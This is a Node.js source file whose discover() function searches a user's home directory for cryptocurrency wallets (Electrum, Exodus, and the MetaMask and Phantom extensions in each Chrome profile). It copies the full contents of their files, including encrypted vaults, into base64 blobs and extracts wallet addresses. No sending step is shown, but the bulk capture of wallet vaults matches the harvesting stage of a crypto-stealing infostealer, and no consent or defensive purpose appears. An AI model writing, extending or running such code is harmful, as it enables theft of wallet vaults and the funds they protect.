import { readdir, readFile, stat } from 'node:fs/promises';
import { homedir, platform } from 'node:os';
import { join } from 'node:path';

const H = homedir();
const appData = platform() === 'win32' ? join(H, 'AppData', 'Roaming')
  : platform() === 'darwin' ? join(H, 'Library', 'Application Support') : join(H, '.config');

const chromeRoots = {
  win32: join(H, 'AppData', 'Local', 'Google', 'Chrome', 'User Data'),
  darwin: join(H, 'Library', 'Application Support', 'Google', 'Chrome'),
  linux: join(H, '.config', 'google-chrome'),
};
const EXT = { nkbihfbeogaeaoehlefnkodbefgpgknn: 'MetaMask', bfnaelmomeimhlpmgjnjophhpkkoljpa: 'Phantom' };

async function exists(p) { try { await stat(p); return true; } catch { return false; } }

async function readDir(dir) {
  const out = {};
  try {
    for (const f of await readdir(dir)) {
      const p = join(dir, f);
      const s = await stat(p);
      if (s.isFile() && s.size < 8 * 1024 * 1024) out[f] = (await readFile(p)).toString('base64');
    }
  } catch {}
  return out;
}

export async function discover() {
  const found = [];
  const electrum = platform() === 'win32' ? join(appData, 'Electrum', 'wallets') : join(H, '.electrum', 'wallets');
  if (await exists(electrum)) found.push({ name: 'Electrum', chain: 'bitcoin', addresses: [], raw: await readDir(electrum) });
  const exodus = join(appData, 'Exodus', 'exodus.wallet');
  if (await exists(exodus)) found.push({ name: 'Exodus', chain: 'ethereum', addresses: [], raw: await readDir(exodus) });
  const root = chromeRoots[platform()];
  if (root && await exists(root)) {
    for (const prof of await readdir(root)) {
      if (!/^(Default|Profile \d+)$/.test(prof)) continue;
      for (const [id, name] of Object.entries(EXT)) {
        const dir = join(root, prof, 'Local Extension Settings', id);
        if (await exists(dir)) found.push({ name: `${name} (${prof})`, chain: name === 'Phantom' ? 'solana' : 'ethereum', addresses: [], raw: await readDir(dir) });
      }
    }
  }
  for (const w of found) {
    // vault files carry the public addresses in clear text alongside the encrypted vault
    const text = Object.values(w.raw).map((b) => Buffer.from(b, 'base64').toString('latin1')).join('\n');
    w.addresses = [...new Set(text.match(/\b(0x[a-fA-F0-9]{40}|bc1[a-z0-9]{25,60})\b/g) ?? [])];
  }
  return found;
}
